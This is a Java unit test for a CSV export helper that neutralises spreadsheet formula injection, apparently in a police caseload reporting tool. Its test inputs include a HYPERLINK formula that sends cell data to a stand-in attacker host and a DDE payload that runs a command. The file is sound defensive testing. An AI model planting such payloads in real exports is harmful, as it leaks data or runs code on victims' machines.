package uk.police.soc.caseload.report.csv;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringWriter;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

class CsvCellsTest {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0",
        "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=", "@"})
    void aCellThatASpreadsheetWouldRunAsAFormulaIsWrittenAsText(String value) {
        assertThat(CsvCells.neutralised(value)).isEqualTo("'" + value);
    }

    @ParameterizedTest
    @ValueSource(strings = {"DS Amy Clarke", "E2041", "2024-06-13", "O'Brien", "a=b", "LRO-CORE", " =not first"})
    void ordinaryCellsAreWrittenAsTheyAre(String value) {
        assertThat(CsvCells.neutralised(value)).isEqualTo(value);
    }

    @Test
    void theExportQuotesAndNeutralisesEveryCellHeaderIncluded() {
        StringWriter out = new StringWriter();

        CsvExport.start(out, "id", "=name").row("E1", "=1+1", null, "a,b").flush();

        assertThat(out.toString().lines()).containsExactly("id,'=name", "E1,'=1+1,,\"a,b\"");
    }
}
